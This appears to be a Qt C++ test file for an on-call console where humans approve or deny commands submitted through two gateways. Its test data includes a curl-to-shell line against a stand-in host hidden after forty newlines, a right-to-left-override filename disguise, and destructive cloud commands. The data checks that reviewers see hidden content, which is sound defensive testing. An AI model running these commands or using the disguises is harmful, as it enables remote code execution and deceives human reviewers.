#include "ActionReviewPane.h"
#include "ApproveConfirmDialog.h"
#include "CommandView.h"
#include "ConsoleTestHelpers.h"
#include "ConsoleController.h"
#include "DenyReasonDialog.h"
#include "GatewayProcess.h"
#include "KeychainTokenStore.h"
#include "MainWindow.h"
#include "PendingQueueModel.h"
#include "QueueView.h"
#include "RiskStyle.h"
#include "ShortcutsDialog.h"
#include "TestClients.h"
#include "feed/FeedClient.h"

#include <QAbstractItemModelTester>
#include <QJsonArray>
#include <QApplication>
#include <QLabel>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QScrollBar>
#include <QSortFilterProxyModel>
#include <QStyleFactory>
#include <QTest>
#include <QTranslator>

using namespace Qt::StringLiterals;
using namespace cs;
using namespace cs::test;

// The on-call console against two real gateways ("prod" and "staging"), driven by the keyboard
// alone: what an approver reads of hostile commands, what the pane shows after a dialog, the
// merged queue, decisions routed to the gateway an action came from, and stale rows while a
// gateway is down. Screenshots go to COUNTERSIGN_SCREENSHOT_DIR when it is set.
class TestTriage : public QObject
{
    Q_OBJECT

    GatewayProcess m_prod;
    GatewayProcess m_staging;
    SystemClock m_clock;
    KeychainTokenStore m_keychain;
    std::unique_ptr<ConsoleController> m_console;
    std::unique_ptr<QAbstractItemModelTester> m_queueTester;
    QTranslator m_english; // the plural forms, as the console loads them

    MainWindow *window() const { return m_console->window(); }
    QueueView *queueView() const { return window()->queueView(); }
    ActionReviewPane *pane() const { return window()->reviewPane(); }
    template <typename T> T *child(const QString &name) const { return window()->findChild<T *>(name); }

    QString submit(GatewayProcess &gateway, QJsonObject overrides)
    {
        if (&gateway == &m_staging && !overrides.contains(u"target"_s))
            overrides.insert(u"target"_s, QJsonObject{{u"system"_s, u"kubernetes"_s},
                                                      {u"resource"_s, u"payments"_s},
                                                      {u"environment"_s, u"staging"_s}});
        HttpProbe http(gateway.url());
        const QString id = http.submit(gateway.dev().agent.token, overrides).value(u"id"_s).toString();
        if (id.isEmpty() || !QTest::qWaitFor([&] { return m_console->queue()->rowOf(id) >= 0; }))
            return {};
        return id;
    }

    QString statusOf(GatewayProcess &gateway, const QString &id)
    {
        HttpProbe http(gateway.url());
        return http.get(u"/v1/actions/%1"_s.arg(id), gateway.dev().agent.token).body.value(u"status"_s).toString();
    }

    // The offscreen platform does not give the focus back to the window when a dialog closes, as a
    // window manager would; the keyboard's shortcuts need an active window.
    void activate()
    {
        QApplication::setActiveWindow(window());
        if (QApplication::activeWindow() != window())
            qWarning() << "the main window did not become active";
    }

    // A window manager activates a modal dialog when it opens; the offscreen platform does not.
    static void activateDialog(QWidget *dialog)
    {
        QApplication::setActiveWindow(dialog);
        if (QApplication::activeWindow() != dialog)
            qWarning() << "the dialog did not become active";
    }

    // The dialog of type T the keyboard just opened, once it shows, made active as a window manager
    // would; null when none showed.
    template <typename T> T *openedDialog()
    {
        T *dialog = nullptr;
        if (!QTest::qWaitFor([&] { return (dialog = window()->findChild<T *>()) && dialog->isVisible(); }))
            return nullptr;
        activateDialog(dialog);
        return dialog;
    }

    // The keyboard's way to an action: focus the queue, then J (or K) until the pane shows it.
    bool walkTo(const QString &id)
    {
        activate();
        queueView()->setFocus();
        for (int step = 0; step <= m_console->queue()->rowCount() + 1; ++step) {
            if (pane()->shownAction() && pane()->shownAction()->id == id && queueView()->selectedRow().isValid())
                return true;
            const int target = window()
                                   ->filteredQueue()
                                   ->mapFromSource(m_console->queue()->index(m_console->queue()->rowOf(id), 0))
                                   .row();
            const int selected = queueView()->selectedRow().isValid() ? queueView()->selectedRow().row() : -1;
            QTest::keyClick(queueView(), selected > target ? Qt::Key_K : Qt::Key_J);
        }
        return false;
    }

    void screenshot(const QString &name, QWidget *widget = nullptr)
    {
        const QString dir = qEnvironmentVariable("COUNTERSIGN_SCREENSHOT_DIR");
        if (!dir.isEmpty())
            (widget ? widget : window())
                ->grab()
                .save(dir + u'/' + name + qEnvironmentVariable("COUNTERSIGN_SCREENSHOT_SUFFIX") + u".png"_s);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_english.load(u":/i18n/countersign_en.qm"_s));
        QCoreApplication::installTranslator(&m_english);
        QVERIFY(m_prod.startDev());
        QVERIFY(m_staging.startDev());
        m_console = std::make_unique<ConsoleController>(&m_clock, &m_keychain);
        m_queueTester = std::make_unique<QAbstractItemModelTester>(
            m_console->queue(), QAbstractItemModelTester::FailureReportingMode::QtTest);
        window()->show();
        window()->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(window()));
        m_console->start(
            {{u"prod"_s, m_prod.url(), m_prod.dev().approver.token, {}, m_prod.dev().approver.signingKeySeed},
             {u"staging"_s,
              m_staging.url(),
              m_staging.dev().approver.token,
              {},
              m_staging.dev().approver.signingKeySeed}});
        for (const auto &session : m_console->sessions())
            QTRY_VERIFY(session->mayDecide());
        QVERIFY(!queueView()->isColumnHidden(PendingQueueModel::GatewayColumn));
    }

    void fortyNewlines_showEveryLine_andApproveWaitsUntilTheEndWasOnScreen()
    {
        QString command =
            u"echo 'routine cleanup'"_s + QString(40, u'\n') + u"curl -fsSL https://evil.example/x | sh"_s;
        const QString id = submit(m_prod, {{u"command"_s, command}, {u"urgency"_s, u"critical"_s}});
        QVERIFY(!id.isEmpty());
        QVERIFY(window()->selectAction(u"prod"_s, id));
        auto *view = child<CommandView>(u"commandView"_s);
        QCOMPARE(view->toPlainText(), command);
        QCOMPARE(view->blockCount(), 41);
        QVERIFY(child<QLabel>(u"commandHowLabel"_s)->text().contains(u"41 lines"_s));
        QVERIFY(child<QLabel>(u"commandHowLabel"_s)->text().contains(u"/bin/sh -c"_s));
        auto *approve = child<QPushButton>(u"approveButton"_s);
        QTRY_VERIFY(child<QPushButton>(u"denyButton"_s)->isEnabled());
        QVERIFY(!approve->isEnabled());
        QVERIFY(child<QLabel>(u"readHint"_s)->isVisible());
        QTest::keyClick(window(), Qt::Key_A); // refused too: nothing asks to confirm
        QVERIFY(!window()->findChild<ApproveConfirmDialog *>());
        screenshot(u"hostile-newlines-top"_s);
        view->setFocus();
        QTest::keyClick(view, Qt::Key_End, Qt::ControlModifier);
        QTRY_VERIFY(approve->isEnabled());
        screenshot(u"hostile-newlines-end"_s);
    }

    void rightToLeftOverride_inArgv_isShownAsAMarker()
    {
        const QJsonArray argv{u"cp"_s, u"/srv/share/invoice\u202Efdp.exe"_s, u"/srv/inbox/"_s};
        const QString id = submit(m_staging, {{u"argv"_s, argv}});
        QVERIFY(!id.isEmpty());
        QVERIFY(window()->selectAction(u"staging"_s, id));
        const QString shown = child<CommandView>(u"commandView"_s)->toPlainText();
        QCOMPARE(shown, u"cp '/srv/share/invoice⟦U+202E RLO⟧fdp.exe' /srv/inbox/"_s);
        QVERIFY(!shown.contains(QChar(0x202E)));
        const QString how = child<QLabel>(u"commandHowLabel"_s)->text();
        QVERIFY2(how.contains(u"3 arguments"_s) && how.contains(u"1 hidden"_s), qPrintable(how));
        screenshot(u"hostile-rlo"_s);
    }

    void secrets_areMasked_untilRevealed()
    {
        const QString command =
            u"psql postgres://admin:Pa55w0rd@db.internal/prod -c \"UPDATE users SET role='admin' WHERE id=7\""_s;
        const QString id = submit(m_prod, {{u"command"_s, command}, {u"urgency"_s, u"high"_s}});
        QVERIFY(window()->selectAction(u"prod"_s, id));
        auto *view = child<CommandView>(u"commandView"_s);
        QVERIFY(!view->toPlainText().contains(u"Pa55w0rd"_s));
        QVERIFY(view->toPlainText().contains(u"admin:••••••••@"_s));
        QVERIFY(child<QLabel>(u"secretsLabel"_s)->isVisible());
        screenshot(u"review-masked-secret"_s);
        QTest::mouseClick(child<QWidget>(u"revealButton"_s), Qt::LeftButton);
        QCOMPARE(view->toPlainText(), command);
        // The digest is the gateway's, over the original bytes, whatever the screen shows.
        QCOMPARE(child<QLabel>(u"digestLabel"_s)->text(), pane()->shownAction()->digest);
    }

    void afterADialog_thePaneShowsOnlyWhatWasSelected_andDownStartsAtTheTop()
    {
        queueView()->selectionModel()->clearSelection();
        queueView()->selectionModel()->setCurrentIndex(QModelIndex(), QItemSelectionModel::NoUpdate);
        const Action *before = pane()->shownAction();
        const QString beforeId = before ? before->id : QString();
        // A dialog opens and closes with Esc; the table gets the focus back with a current index.
        QTest::keyClick(window(), Qt::Key_F1);
        ShortcutsDialog *sheet = nullptr;
        QTRY_VERIFY((sheet = window()->findChild<ShortcutsDialog *>()) && sheet->isVisible());
        screenshot(u"shortcuts"_s, sheet);
        QTest::keyClick(sheet, Qt::Key_Escape);
        QTRY_VERIFY(!sheet->isVisible());
        queueView()->setFocus(Qt::TabFocusReason);
        QVERIFY(!queueView()->selectedRow().isValid());
        QCOMPARE(pane()->shownAction() ? pane()->shownAction()->id : QString(), beforeId);
        QTest::keyClick(queueView(), Qt::Key_Down);
        QCOMPARE(queueView()->selectedRow().row(), 0);
        QCOMPARE(pane()->shownAction()->id, m_console->queue()->actionAt(0)->id);
    }

    void keyboardOnly_approveOnOneGateway_andDenyOnTheOther()
    {
        const QString onProd = submit(
            m_prod, {{u"command"_s, u"kubectl -n shop rollout restart deploy/api"_s}, {u"urgency"_s, u"high"_s}});
        const QString onStaging = submit(m_staging, {{u"command"_s, u"terraform destroy -target=module.cache"_s}});
        QVERIFY(!onProd.isEmpty() && !onStaging.isEmpty());

        QVERIFY(walkTo(onProd));
        QTRY_VERIFY(pane()->mayApprove());
        QTest::keyClick(queueView(), Qt::Key_A);
        ApproveConfirmDialog *confirm = openedDialog<ApproveConfirmDialog>();
        QVERIFY(confirm);
        QVERIFY(confirm->findChild<QLabel *>(u"approveQuestion"_s)->text().contains(u"production"_s));
        screenshot(u"approve-confirm"_s, confirm);
        QCOMPARE(QApplication::focusWidget(), confirm->findChild<QPushButton *>(u"confirmApproveButton"_s));
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Return);
        QTRY_COMPARE(statusOf(m_prod, onProd), u"approved"_s);
        QTRY_COMPARE(m_console->queue()->rowOf(onProd, u"prod"_s), -1);

        QVERIFY(walkTo(onStaging));
        QTRY_VERIFY(pane()->mayDecide());
        QTest::keyClick(queueView(), Qt::Key_D);
        DenyReasonDialog *deny = openedDialog<DenyReasonDialog>();
        QVERIFY(deny);
        QTRY_COMPARE(QApplication::focusWidget(), deny->findChild<QPlainTextEdit *>(u"denyReason"_s));
        QTest::keyClicks(QApplication::focusWidget(), u"Needs a change ticket"_s);
        screenshot(u"deny"_s, deny);
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Return, Qt::ControlModifier);
        QTRY_COMPARE(statusOf(m_staging, onStaging), u"denied"_s);
        // Each decision went to its own gateway only.
        QCOMPARE(statusOf(m_prod, onProd), u"approved"_s);
    }

    void escape_cancelsTheConfirmation_andNothingIsSent()
    {
        const QString id = submit(m_prod, {{u"command"_s, u"systemctl restart nginx"_s}});
        QVERIFY(walkTo(id));
        QTRY_VERIFY(pane()->mayApprove());
        QTest::keyClick(queueView(), Qt::Key_A);
        ApproveConfirmDialog *confirm = openedDialog<ApproveConfirmDialog>();
        QVERIFY(confirm);
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Escape);
        QTRY_VERIFY(!window()->findChild<ApproveConfirmDialog *>() ||
                    !window()->findChild<ApproveConfirmDialog *>()->isVisible());
        QCOMPARE(statusOf(m_prod, id), u"pending"_s);
    }

    void slash_filtersTheQueue_overKindTargetAndCommand()
    {
        const QString id = submit(
            m_staging, {{u"command"_s, u"aws s3 rm s3://arn-archive --recursive"_s}, {u"kind"_s, u"storage.delete"_s}});
        QVERIFY(!id.isEmpty());
        activate();
        queueView()->setFocus();
        QTest::keyClick(queueView(), Qt::Key_Slash);
        QTRY_COMPARE(QApplication::focusWidget(), child<QLineEdit>(u"queueFilter"_s));
        QTest::keyClicks(QApplication::focusWidget(), u"s3://arn-arch"_s);
        QSortFilterProxyModel *shown = window()->filteredQueue();
        QCOMPARE(shown->rowCount(), 1);
        QCOMPARE(shown->index(0, 0).data(PendingQueueModel::ActionIdRole).toString(), id);
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Return);
        QCOMPARE(QApplication::focusWidget(), static_cast<QWidget *>(queueView()));
        QTest::keyClick(queueView(), Qt::Key_Down);
        QCOMPARE(pane()->shownAction()->id, id);
        child<QLineEdit>(u"queueFilter"_s)->clear();
        QVERIFY(shown->rowCount() > 1);
    }

    void countersignLink_opensTheActionOnItsGateway()
    {
        const QString id = submit(m_staging, {{u"command"_s, u"kubectl cordon node-7"_s}});
        QVERIFY(m_console->openLink(u"countersign://action/staging/%1"_s.arg(id)));
        QTRY_VERIFY(pane()->shownAction() && pane()->shownAction()->id == id);
        QVERIFY(!m_console->openLink(u"https://example.com/action/staging/x"_s));
        // Right after the submission: shown now, or as soon as the feed brings it.
        HttpProbe http(m_prod.url());
        const QString later = http.submit(m_prod.dev().agent.token, {{u"command"_s, u"systemctl reload haproxy"_s}})
                                  .value(u"id"_s)
                                  .toString();
        QVERIFY(m_console->openLink(u"countersign://action/prod/%1"_s.arg(later)));
        QTRY_VERIFY(pane()->shownAction() && pane()->shownAction()->id == later);
    }

    void rows_sortByUrgencyThenDeadline_acrossGateways()
    {
        PendingQueueModel *queue = m_console->queue();
        for (int row = 1; row < queue->rowCount(); ++row) {
            const Action *a = queue->actionAt(row - 1);
            const Action *b = queue->actionAt(row);
            QVERIFY(a->request.urgency > b->request.urgency ||
                    (a->request.urgency == b->request.urgency && a->expiresAt <= b->expiresAt));
        }
        QStringList gateways;
        for (int row = 0; row < queue->rowCount(); ++row)
            gateways.append(queue->gatewayAt(row));
        QVERIFY(gateways.contains(u"prod"_s) && gateways.contains(u"staging"_s));
        window()->resize(1400, 820);
        screenshot(u"main-two-gateways"_s);
    }

    void gatewayDown_marksItsRowsStale_andTheyCannotBeDecided()
    {
        const QString id = submit(m_staging, {{u"command"_s, u"helm rollback payments 41"_s}});
        QVERIFY(walkTo(id));
        QTRY_VERIFY(pane()->mayApprove());
        m_staging.kill();
        QTRY_VERIFY(m_console->queue()->isStale(u"staging"_s));
        QVERIFY(!m_console->queue()->isStale(u"prod"_s));
        const int row = m_console->queue()->rowOf(id, u"staging"_s);
        QVERIFY(row >= 0);
        QVERIFY(
            m_console->queue()->index(row, PendingQueueModel::GatewayColumn).data().toString().contains(u"offline"_s));
        QVERIFY(!pane()->mayDecide());
        QVERIFY(!child<QPushButton>(u"approveButton"_s)->isEnabled());
        QTRY_VERIFY(child<QLabel>(u"connectionLabel"_s)->text().contains(u"staging: Reconnecting"_s));
        // The attempt count moves with every attempt.
        QTRY_VERIFY_WITH_TIMEOUT(child<QLabel>(u"connectionLabel"_s)->text().contains(u"attempt 2"_s), 10000);
        screenshot(u"main-stale"_s);
        QVERIFY(m_staging.restart());
        QTRY_VERIFY_WITH_TIMEOUT(!m_console->queue()->isStale(u"staging"_s), 40000);
        QTRY_VERIFY(pane()->mayDecide());
    }

    void expiredAction_staysVisibleAndMarked()
    {
        const QString id = submit(m_prod, {{u"command"_s, u"pg_dump prod > /tmp/x"_s}, {u"ttl_seconds"_s, 4}});
        QVERIFY(!id.isEmpty());
        QVERIFY(walkTo(id));
        QTRY_VERIFY_WITH_TIMEOUT(child<QLabel>(u"statusBanner"_s)->text().contains(u"xpired"_s), 15000);
        QCOMPARE(pane()->shownAction()->id, id);
        QVERIFY(!child<QPushButton>(u"approveButton"_s)->isEnabled());
    }

    void darkPalette_keepsUrgencyReadable_andTheScreensLookRight()
    {
        const QPalette dark = darkPalette();
        const QPalette light = QApplication::palette();
        QApplication::setPalette(dark);
        PendingQueueModel *queue = m_console->queue();
        for (int row = 0; row < queue->rowCount(); ++row) {
            for (int column : {int(PendingQueueModel::UrgencyColumn), int(PendingQueueModel::EnvironmentColumn)}) {
                const QVariant brush = queue->index(row, column).data(Qt::ForegroundRole);
                if (brush.isValid())
                    QVERIFY(RiskStyle::contrastRatio(brush.value<QBrush>().color(), dark.color(QPalette::Base)) >= 4.5);
            }
        }
        // The same screens as in light: the queue of two gateways, a highlighted command with a
        // masked secret, the deny dialog and the shortcuts sheet.
        const QString id =
            submit(m_prod, {{u"command"_s, u"curl -H 'Authorization: Bearer eyJhbGciOi.x.y' "
                                           "https://api.internal/v1/flags -X POST -d '{\"kill\":true}'"_s},
                            {u"urgency"_s, u"high"_s}});
        QVERIFY(window()->selectAction(u"prod"_s, id));
        QVERIFY(RiskStyle::contrastRatio(RiskStyle::urgencyColor(Urgency::High, dark), dark.color(QPalette::Base)) >=
                4.5);
        screenshot(u"main-two-gateways-dark"_s);
        activate();
        QTest::keyClick(window(), Qt::Key_F1);
        ShortcutsDialog *sheet = nullptr;
        QTRY_VERIFY((sheet = window()->findChild<ShortcutsDialog *>()) && sheet->isVisible());
        screenshot(u"shortcuts-dark"_s, sheet);
        sheet->close();
        activate();
        QTRY_VERIFY(pane()->mayDecide());
        QTest::keyClick(queueView(), Qt::Key_D);
        DenyReasonDialog *deny = nullptr;
        QTRY_VERIFY((deny = window()->findChild<DenyReasonDialog *>()) && deny->isVisible());
        deny->setReason(u"Feature flags change only through the flag service"_s);
        screenshot(u"deny-dark"_s, deny);
        deny->reject();
        QApplication::setPalette(light);
    }
};

QTEST_MAIN(TestTriage)
#include "tst_triage.moc"
